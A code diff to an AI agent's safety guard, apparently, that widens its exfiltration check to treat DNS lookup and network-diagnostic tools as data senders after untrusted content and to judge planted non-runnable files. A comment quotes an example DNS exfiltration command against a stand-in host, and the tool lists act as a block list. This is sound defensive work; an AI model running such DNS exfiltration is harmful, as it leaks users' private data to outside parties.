@@ -32,15 +32,20 @@ from macrohard.safety.context import GuardContext
 from macrohard.safety.flow_paths import TEXT_READERS, linked, operands, redirect_targets, shell_base, short
 from macrohard.safety.flow_planted import planted
 from macrohard.safety.flow_planted import targets as planted_targets
+from macrohard.safety.flow_readers import judge, written_paths
 from macrohard.safety.injection import flagged_lines
 from macrohard.safety.policy import Facts, Policy
 from macrohard.safety.review import PolicyCheck, addresses, facts_of
 from macrohard.safety.taint import Pending, Source
 from macrohard.types import BashAction, Decision, Observation, Verdict
 
-_SENDERS = R.DOWNLOADERS | R.NETWORK_TOOLS | {"mail", "mailx", "sendmail", "mutt", "ftp", "twine"}
+# programs that ask a resolver about a name: the name itself leaves the machine (flow24: data carried in a DNS name,
+# ``nslookup <hex of notes>.evil.example``), so after untrusted content they send as curl does
+_RESOLVERS = frozenset({"nslookup", "dig", "host", "drill", "delv", "kdig", "ping", "ping6", "traceroute",
+                        "traceroute6", "tracepath", "mtr", "whois", "resolvectl", "avahi-resolve"})
+_SENDERS = R.DOWNLOADERS | R.NETWORK_TOOLS | _RESOLVERS | {"mail", "mailx", "sendmail", "mutt", "ftp", "twine"}
 _NET_VERBS = re.compile(r"\b(git\s+(?:\S+\s+)*?(push|clone|fetch|pull|ls-remote|send-email)|"
-                        r"pip3?\s+(download|install)|npm\s+(install|publish)|gh\s+\w+)\b")
+                        r"pip3?\s+(download|install)|npm\s+(install|publish)|gh\s+\w+|getent\s+a?hosts\w*)\b")
 _NOT_PRIVATE = ("/usr/", "/bin/", "/sbin/", "/lib", "/opt/", "/dev/null", "/etc/os-release", "/proc/self/")
 _CONTENT_FIELDS = frozenset({"content", "new", "old", "text", "answer"})
 # what a shell line must hold to name an address at all (a scheme, a dotted quad, an email, a port said)
@@ -248,10 +253,14 @@ def _planted_send(action: Any, ctx: GuardContext, decision: Decision) -> Verdict
         if not _WRITES.search(command):
             return None
         path, content, why = "a file", command, planted(command, command, untrusted, known, shell=True)
+        paths, base = written_paths(command), shell_base(ctx)
     else:
         path = str(getattr(action, "path", "a file"))
         content = "\n".join(str(getattr(action, f, "") or "") for f in ("content", "new"))
         why = planted(path, content, untrusted, known)
+        paths, base = [path], posixpath.dirname(posixpath.join(ctx.workspace, path))
+    if not why:  # a file of no runnable kind that something in the workspace reads or pulls in (flow24)
+        why = judge(paths, content, ctx, untrusted, known, base)
     if not why:
         return None
     src = ctx.flow.last_source
